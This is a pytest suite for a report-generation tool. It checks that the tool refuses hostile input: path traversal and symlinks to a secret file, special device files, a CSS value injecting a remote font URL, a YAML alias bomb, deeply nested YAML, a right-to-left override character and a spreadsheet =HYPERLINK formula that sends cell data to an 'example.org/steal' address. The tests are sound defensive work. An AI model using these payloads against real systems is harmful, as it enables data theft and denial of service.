"""Hostile and careless input: reads stay in the project, nothing hangs, nothing half-written,
and no quote verifies a citation it does not support.

Each test is named after a class of defect. A sentinel file outside the project holds
text that must appear nowhere: not in what the tool prints, not in any file it writes,
not in the PDF's text nor among its attachments.
"""

from __future__ import annotations

import errno
import io
import json
import os
import resource
import shutil
import subprocess
import sys
import textwrap
import unicodedata
from pathlib import Path

import pytest
from babel.messages.pofile import read_po
from pypdf import PdfReader

from reportgen import atomic, build, cli
from reportgen.content.folders import OUTPUT
from reportgen.progress import Progress
from reportgen.publish.stamp import render_stamps

from .conftest import MINIMAL, SEED, THAI_CATALOG, own_copy, write_files
from .pdfread import page_texts

SENTINEL = "SENTINEL 7f3a9c: a line of a private file that must never leave it"
QUIET = Progress(build.BUILD_STEPS, None)


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """A small project built once (with its record): every case breaks a copy of it."""
    root = tmp_path_factory.mktemp("good") / "project"
    write_files(root, MINIMAL)
    assert cli.main(["build", "-q", str(root)]) == 0
    return root


@pytest.fixture
def project(built, tmp_path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(built, root, symlinks=True)
    return root


@pytest.fixture
def secret(tmp_path) -> Path:
    """A private file outside the project."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text(f"{SENTINEL}\nThe council closed the old bridge\n")
    return path


def run(root: Path, *args: str, timeout: int = 120, memory: int | None = None
        ) -> tuple[int, str]:
    """Run reportgen in its own process, as an editor would; return the status and output.
    `memory`: the most address space it may take, in bytes (a blow-up fails fast)."""

    def limit_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    done = subprocess.run([sys.executable, "-m", "reportgen", *args, "-q", str(root)],
                          capture_output=True, text=True, timeout=timeout,
                          preexec_fn=limit_memory if memory else None)
    return done.returncode, done.stdout + done.stderr


def assert_nowhere(root: Path, output: str) -> None:
    """The sentinel is not in the output, nor in any file of build/, nor in any PDF's text."""
    assert SENTINEL not in output
    for path in (root / OUTPUT).rglob("*"):
        if path.is_file():
            assert SENTINEL.encode() not in path.read_bytes(), path
        if path.suffix == ".pdf":
            assert SENTINEL not in "".join(page_texts(path))
            for name, contents in PdfReader(path).attachments.items():
                assert all(SENTINEL.encode() not in data for data in contents), name


def edit(root: Path, name: str, old: str, new: str) -> None:
    path = own_copy(root, name)
    text = path.read_text(encoding="utf-8")
    assert old in text, (name, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def first_problem(output: str) -> str:
    lines = output.splitlines()
    return lines[1] if lines and lines[0].startswith("reportgen: 1 problem") else output


@pytest.mark.parametrize("command", [["build"], ["build", "--pdf-a"], ["check", "--coverage"],
                                     ["distribute"]])
def test_files_outside_the_project_are_never_read(project, secret, command):
    pdf_before = (project / "build/briefing.pdf").read_bytes()
    (project / "report/recipients.yaml").write_text(
        "recipients:\n  - name: Ana Pérez\n    organisation: Oxfam\n")
    cases = {
        str(secret): "report/sources.yaml:2:5: source 'gazette' names the file "
                     f"{secret}, which is outside the seeds folder",
        "../../outside/secret.txt": "report/sources.yaml:2:5: source 'gazette' names the file "
                                    "../../outside/secret.txt, which is outside the seeds folder",
    }
    for name, message in cases.items():
        edit(project, "report/sources.yaml", "file: gazette.txt", f"file: {name}")
        status, output = run(project, *command)
        assert (status, first_problem(output)) == (1, message)
        assert_nowhere(project, output)
        edit(project, "report/sources.yaml", f"file: {name}", "file: gazette.txt")
    (project / "seeds/gazette.txt").unlink()
    (project / "seeds/gazette.txt").symlink_to(secret)
    status, output = run(project, *command)
    assert (status, first_problem(output)) == (
        1, f"seeds/gazette.txt: this file is a link to {secret}, outside the project folder")
    assert_nowhere(project, output)
    assert (project / "build/briefing.pdf").read_bytes() == pdf_before


def test_files_outside_the_project_are_never_read_through_templates_or_content(project, secret):
    own_copy(project, "templates/cover.html.j2")
    (project / "templates/note.html.j2").symlink_to(secret)
    edit(project, "templates/cover.html.j2", "</section>", '{% include "note.html.j2" %}</section>')
    status, output = run(project, "build")
    assert (status, first_problem(output)) == (
        1, f"templates/note.html.j2: this file is a link to {secret}, outside the project "
           "folder")
    assert_nowhere(project, output)
    edit(project, "templates/cover.html.j2", '"note.html.j2"', '"../../outside/secret.txt"')
    status, output = run(project, "build")
    assert (status, first_problem(output)) == (
        1, "templates/../../outside/secret.txt: this file is outside the project folder")
    assert_nowhere(project, output)
    (project / "report/chronology.yaml").unlink()
    (project / "report/chronology.yaml").symlink_to(secret)
    status, output = run(project, "check")
    assert (status, first_problem(output)) == (
        1, f"report/chronology.yaml: this file is a link to {secret}, outside the project "
           "folder")
    assert_nowhere(project, output)


def test_special_files_are_refused_never_opened(project):
    os.mkfifo(project / "seeds/pipe.txt")
    (project / "seeds/zeros.txt").symlink_to("/dev/zero")
    # Files nothing cites: the build goes on, without reading them.
    status, output = run(project, "build", timeout=60)
    assert status == 0, output
    edit(project, "report/sources.yaml", "file: gazette.txt", "file: pipe.txt")
    status, output = run(project, "check", timeout=60)
    assert (status, first_problem(output)) == (
        1, "seeds/pipe.txt: this file is a named pipe, not a regular file")
    edit(project, "report/sources.yaml", "file: pipe.txt", "file: zeros.txt")
    status, output = run(project, "build", timeout=60)
    assert (status, first_problem(output)) == (
        1, "seeds/zeros.txt: this file is a link to /dev/zero, outside the project folder")


def test_network_access_outside_the_sandbox_is_refused(project, server, capsys):
    family = f'Noto Serif"; src: url({server.url}/f.ttf); x: "'
    write_files(project, {"templates/theme.yaml": f"fonts:\n  - language: default\n"
                                                  f"    families: ['{family}']\n"})
    (project / "report/recipients.yaml").write_text(
        "recipients:\n  - name: Ana Pérez\n    organisation: Oxfam\n")
    for command in (["build"], ["distribute"], ["check"]):
        assert cli.main([*command, "-q", str(project)]) == 1
        assert capsys.readouterr().err.splitlines()[1].startswith(
            f"templates/theme.yaml:2:5: 'Noto Serif\"; src: url({server.url}")
    # The stamps are rendered in the sandbox too, whatever reaches their stylesheet.
    stamps = render_stamps(["Prepared for Ana Pérez"], [family], (595.0, 842.0), project, "en")
    assert stamps.startswith(b"%PDF") and server.hits == []


def test_tracebacks_a_malformed_edition_snapshot_is_a_content_error(project, capsys):
    assert cli.main(["release", "-q", str(project)]) == 0
    snapshot = project / "report/editions/2.yaml"
    text = snapshot.read_text()
    cases = {
        text.replace("date: '2020-03-03'", "date: sometime"):
            "report/editions/2.yaml: the 'chronology' section recorded for edition 2 is not as "
            "'reportgen release' writes it: 'sometime' is not a date: write YYYY-MM-DD, YYYY-MM "
            "or YYYY",
        text.replace("  actors:\n    FR:", "  actors:\n  - FR:"):
            "report/editions/2.yaml: the 'actors' section recorded for edition 2 is not as "
            "'reportgen release' writes it",
    }
    for broken, message in cases.items():
        assert broken != text
        snapshot.write_text(broken)
        for command in ("check", "build"):
            assert cli.main([command, "-q", str(project)]) == 1
            assert capsys.readouterr().err.splitlines()[1] == message


def outputs(root: Path) -> dict[str, bytes]:
    return {name: (root / "build" / name).read_bytes()
            for name in ("briefing.pdf", "briefing.html")}


def test_silent_corruption_of_translations_an_unterminated_msgstr_is_refused_at_its_line(
        project, capsys):
    translated = "เปิดสะพานอีกครั้งหลังการตรวจสอบ"
    catalog = project / "report/translations/th.po"
    write_files(project, {"report/translations/th.po": THAI_CATALOG})
    with (project / "report/report.yaml").open("a") as stream:
        stream.write("translations: [th]\n")
    assert cli.main(["build", "-q", str(project)]) == 0
    before = outputs(project)
    assert f"{translated}<".encode() in before["briefing.html"]
    broken = textwrap.dedent(THAI_CATALOG).replace(f'"{translated}"', f'"{translated}')
    catalog.write_text(broken, encoding="utf-8")
    # Babel alone takes the last letter for the closing quote: the insert would lose it.
    babel = read_po(io.BytesIO(broken.encode()), locale="th")
    assert babel.get("Reopen the bridge after inspection.").string == translated[:-1]
    for command in (["check"], ["build"], ["translations", "update"]):
        assert cli.main([*command, "-q", str(project)]) == 1
        assert capsys.readouterr().err.splitlines()[1:] == [
            "report/translations/th.po:11: PO syntax error: the text of msgstr is never "
            "closed: there is no double quote at the end of “…นอีกครั้งหลังการตรวจสอบ”",
            '    End the text with a double quote (") on this line. To go on over several '
            "lines, close the quote at the end of each line and start the next line with "
            'another: "…"']
    assert outputs(project) == before
    assert catalog.read_text(encoding="utf-8") == broken  # not rewritten damaged either


def test_tracebacks_yaml_nested_thousands_deep_is_a_located_error(project):
    """LibYAML composes in a C recursion: 100,000 levels used to kill the process (SIGSEGV),
    5,000 to end in a RecursionError."""
    before = outputs(project)
    chronology = project / "report/chronology.yaml"
    text = chronology.read_text()
    deep = {"[" * 100_000 + "]" * 100_000: "report/chronology.yaml:8:59",
            "\n    " + "- " * 100_000 + "x": "report/chronology.yaml:9:99"}
    for title, where in deep.items():
        chronology.write_text(text.replace("title: The river rises", f"title: {title}"))
        for command in ("check", "build"):
            status, output = run(project, command, timeout=60)
            assert (status, output.splitlines()[1:]) == (1, [
                f"{where}: this is nested 51 levels deep (lists and blocks of keys inside each "
                "other); a YAML file may nest at most 50",
                "    Lists and blocks of keys this deep are not content an editor writes: check "
                "the indentation and the brackets, or whether the file was generated by a "
                "program."])
    assert outputs(project) == before


def test_hangs_and_memory_an_alias_bomb_in_an_edition_snapshot_is_refused_at_once(project):
    """A billion laughs: 72 aliases standing for 9^9 values. As the recorded content of the
    previous edition, it was expanded by the snapshot reader until memory ran out (a
    MemoryError after 24 s with 2 GB)."""
    before = outputs(project)
    lines = ["edition: 1", "date: '2024-01-01'", "format: 2",
             'lol0: &lol0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"lol{n}: &lol{n} [" + ", ".join([f"*lol{n - 1}"] * 9) + "]" for n in range(1, 9)]
    lines += ["content:", "  chronology: *lol8"]
    (project / "report/editions").mkdir()
    (project / "report/editions/1.yaml").write_text("\n".join(lines) + "\n")
    for command in ("check", "build"):
        status, output = run(project, command, timeout=60, memory=2 * 1024 ** 3)
        assert (status, output.splitlines()[1:]) == (1, [
            "report/editions/1.yaml:8:7: through its aliases (*name), this stands for 66,430 "
            "values; aliases may add at most 10,000 values to a YAML file",
            "    Write the repeated content out where it is needed, or keep the anchors (&name) "
            "and aliases (*name) to a few: reportgen expands every alias when it reads the "
            "file. Aliases of aliases multiply: this is how a short file can stand for billions "
            "of values."])
    assert outputs(project) == before


def test_outputs_left_inconsistent_a_full_disk_changes_nothing(project, monkeypatch, capsys):
    before = {name: (project / "build" / name).read_bytes()
              for name in ("briefing.pdf", "briefing.html", ".cache.json")}
    edit(project, "report/chronology.yaml", "The river rises", "The river rose")

    def full(descriptor):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(atomic.os, "fsync", full)
    assert cli.main(["build", "-q", str(project)]) == 1
    assert capsys.readouterr().err.splitlines()[1:] == [
        "build/briefing.pdf: the disk is full: the new briefing could not be written, and the "
        "previous one is as it was",
        "    Free some space on the disk, then build again."]
    assert {name: (project / "build" / name).read_bytes() for name in before} == before
    assert sorted(path.name for path in (project / "build").iterdir()) == [
        ".cache.json", ".lock", "briefing.html", "briefing.pdf"]


def test_outputs_left_inconsistent_a_killed_build_is_completed_by_the_next(project, monkeypatch,
                                                                          capsys):
    edit(project, "report/chronology.yaml", "The river rises", "The river rose")
    renames = []
    replace = os.replace

    def killed_after_one(source, target):
        if len(renames) == 1 and Path(target).suffix != ".json":
            raise KeyboardInterrupt  # the build is killed between two renames
        renames.append(target)
        replace(source, target)

    monkeypatch.setattr(atomic.os, "replace", killed_after_one)
    assert cli.main(["build", "-q", str(project)]) == 130
    output = project / "build"
    journal = json.loads((output / atomic.JOURNAL).read_text())
    assert [name for _, name in journal] == ["briefing.html", "briefing.pdf", ".cache.json"]
    monkeypatch.setattr(atomic.os, "replace", replace)
    (output / ".briefing.pdf.stray.tmp").write_bytes(b"left by a build killed earlier")
    atomic.finish_replacement(output)
    assert "The river rose" in " ".join(page_texts(output / "briefing.pdf"))
    assert sorted(path.name for path in output.iterdir()) == [
        ".cache.json", ".lock", "briefing.html", "briefing.pdf"]
    capsys.readouterr()
    assert cli.main(["build", str(project)]) == 0
    assert capsys.readouterr().err.startswith("Up to date")


CHRONOLOGY_QUOTE = "quote: Engineers began work on 5 March."
COPY_EXACTLY = ("    Copy the words exactly; only line breaks, spaces and the style of quote marks "
                "may differ.")


def assert_refused(root: Path, capsys, lines: list[str]) -> None:
    """A build fails with exactly these problem lines, leaving the previous PDF as it was."""
    pdf = root / "build/briefing.pdf"
    before = pdf.read_bytes()
    assert cli.main(["build", "-q", str(root)]) == 1
    assert capsys.readouterr().err.splitlines()[1:] == lines
    assert pdf.read_bytes() == before


@pytest.mark.parametrize("words", ["the", "e", "2020", "two metres"])
def test_citations_that_verify_nothing_a_word_a_letter_or_a_figure_is_too_short(
        project, capsys, words):
    edit(project, "report/chronology.yaml", CHRONOLOGY_QUOTE, f"quote: {words}")
    assert_refused(project, capsys, [
        f"report/chronology.yaml:6:16: the quote “{words}” is too short to check against source "
        "'gazette'",
        "    So few words could be found by chance: quote at least 3 words (in Thai, Burmese and "
        "other scripts written without spaces, 15 letters; in Chinese, 5 characters). To cite a "
        "single word, a figure or an address, quote the phrase around it: “the river rose two "
        "metres”, not “two metres”."])


def test_citations_that_verify_nothing_a_blank_quote_is_called_blank(project, capsys):
    edit(project, "report/chronology.yaml", CHRONOLOGY_QUOTE, 'quote: " \\t "')
    assert_refused(project, capsys, [
        "report/chronology.yaml:6:16: the quote is blank: there are no words to find in source "
        "'gazette'",
        "    Copy the words of the source that support the statement."])


def test_citations_that_verify_nothing_a_repeated_passage_is_located_by_the_editor(
        project, capsys):
    with (project / "seeds/gazette.txt").open("a", encoding="utf-8") as seed:
        seed.write("\nOn 3 March 2020 the river rose two metres, said one.\n\n"
                   "On 3 March 2020 the river rose two metres, said another.\n")
    assert_refused(project, capsys, [
        "report/chronology.yaml:11:16: the quote is in source 'gazette' 3 times (¶3, ¶6, ¶7): "
        "“On 3 March 2020 the river rose two metres”",
        "    Say which one the footnote cites: quote more of the words around it, until they "
        "stand in one place only, or give its paragraph, writing the quote as 'text: …' with "
        "'paragraph: 3' on the line below."])
    edit(project, "report/chronology.yaml", "quote: On 3 March 2020 the river rose two metres",
         "quote:\n          - text: On 3 March 2020 the river rose two metres\n"
         "            paragraph: 7")
    assert cli.main(["build", "-q", str(project)]) == 0
    assert "old bridge”, ¶7." in " ".join(page_texts(project / "build/briefing.pdf"))
    edit(project, "report/chronology.yaml", "paragraph: 7", "paragraph: 5")
    assert_refused(project, capsys, [
        "report/chronology.yaml:12:13: the quote is not in ¶5 of source 'gazette', but in ¶3, "
        "¶6, ¶7: “On 3 March 2020 the river rose two metres”",
        "    Correct 'paragraph' to the paragraph the footnote should cite."])
    edit(project, "report/chronology.yaml", "two metres\n            paragraph: 5",
         "two metres and the council")
    assert cli.main(["check", "-q", str(project)]) == 0


def test_nothing_hangs_the_closest_passage_in_a_large_source_covers_the_changed_word(project):
    paragraphs = [f"Item {n}: the council met on day {n} and spent {n * 7919 % 100003} pounds "
                  f"on the {('north', 'south', 'east', 'west')[n % 4]} quay." for n in range(60000)]
    (project / "seeds/gazette.txt").write_text(SEED + "\n" + "\n\n".join(paragraphs) + "\n")
    edit(project, "report/chronology.yaml", CHRONOLOGY_QUOTE,
         "quote: the council met on day 45000 and spent 72 pounds on the north quay")
    status, output = run(project, "check", timeout=60)
    assert status == 1
    assert output.splitlines()[2] == (
        "    Closest passage in seeds/gazette.txt (¶45006): “the council met on day 45000 and "
        f"spent {45000 * 7919 % 100003} pounds on the north quay.”")


def test_unicode_a_direction_override_is_refused(project, capsys):
    edit(project, "report/chronology.yaml", "The river rises", "The river \u202erises")
    assert cli.main(["build", "-q", str(project)]) == 1
    assert capsys.readouterr().err.splitlines()[1:] == [
        "report/chronology.yaml:8:22: 'title' holds the invisible control character U+202E "
        "RIGHT-TO-LEFT OVERRIDE, which reorders the printed text",
        "    Delete it (retype the text around it if need be): the briefing sets right-to-left "
        "text in its direction without such characters."]


def test_unicode_a_utf16_seed_gets_the_right_conversion(project, capsys):
    seed = project / "seeds/gazette.txt"
    seed.write_bytes(seed.read_text().encode("utf-16"))
    assert cli.main(["check", "-q", str(project)]) == 1
    assert capsys.readouterr().err.splitlines()[1:] == [
        "seeds/gazette.txt: the document is not UTF-8 text (byte 0 cannot be read)",
        "    It is UTF-16 text: convert it to UTF-8, for example with: iconv -f UTF-16 -t UTF-8"]


@pytest.mark.parametrize("char, name", [("\u200b", "U+200B ZERO WIDTH SPACE"),
                                        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
                                        ("\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE")])
def test_unicode_invisible_characters_are_named(project, capsys, char, name):
    edit(project, "report/chronology.yaml", CHRONOLOGY_QUOTE,
         f"quote: Engineers began{char} work on 5 March.")
    assert_refused(project, capsys, [
        "report/chronology.yaml:6:16: the quote is not in source 'gazette' as written: it holds "
        f"the invisible character {name} (after “Engineers began”)",
        "    Delete it (retype the words around it if need be).",
        "    Closest passage in seeds/gazette.txt (¶4): “Engineers began work on 5 March.”",
        COPY_EXACTLY])


def test_unicode_invisible_characters_in_the_source_are_named(project, capsys):
    seed = project / "seeds/gazette.txt"
    seed.write_text(seed.read_text().replace("work on 5 March", "work on 5\u2060 March"))
    assert_refused(project, capsys, [
        "report/chronology.yaml:6:16: the quote is not in source 'gazette': “Engineers began "
        "work on 5 March.”",
        "    Closest passage in seeds/gazette.txt (¶4): “Engineers began work on 5\u2060 March.”",
        "    The source's passage holds the invisible character U+2060 WORD JOINER (after "
        "“work on 5”): copy the passage from seeds/gazette.txt itself, with it.",
        COPY_EXACTLY])


def test_unicode_a_decomposed_seed_matches_quotes_typed_precomposed(project, capsys):
    seed = project / "seeds/gazette.txt"
    accented = seed.read_text() + "\nThe café’s façade, résumé of an été, was repainted.\n"
    seed.write_text(unicodedata.normalize("NFD", accented))
    assert unicodedata.normalize("NFC", seed.read_text()) != seed.read_text()
    edit(project, "report/chronology.yaml", CHRONOLOGY_QUOTE,
         "quote: The café's façade, résumé of an été")
    assert cli.main(["check", "-q", str(project)]) == 0
    assert capsys.readouterr().err == ""


def test_smaller_a_missing_project_folder_is_said_to_be_missing(tmp_path, capsys):
    assert cli.main(["build", str(tmp_path / "briefng")]) == 2
    assert capsys.readouterr().err == (
        f"reportgen: {tmp_path / 'briefng'} does not exist: give the folder that holds report/ "
        "and seeds/ (by default, the current folder).\n")


def test_smaller_a_recipient_cannot_plant_a_spreadsheet_formula(project):
    (project / "report/recipients.yaml").write_text(
        "recipients:\n"
        "  - name: '=HYPERLINK(\"http://example.org/steal?\"&A1, \"Open\")'\n"
        "    organisation: '@Oxfam'\n")
    assert cli.main(["distribute", "-q", str(project)]) == 0
    manifest = (project / "build/distribution/manifest.csv").read_text()
    row = manifest.splitlines()[1]
    assert row.startswith('1,01-hyperlink-http-example-org-steal-a1-open.pdf,"\'=HYPERLINK(')
    assert ",'@Oxfam," in row
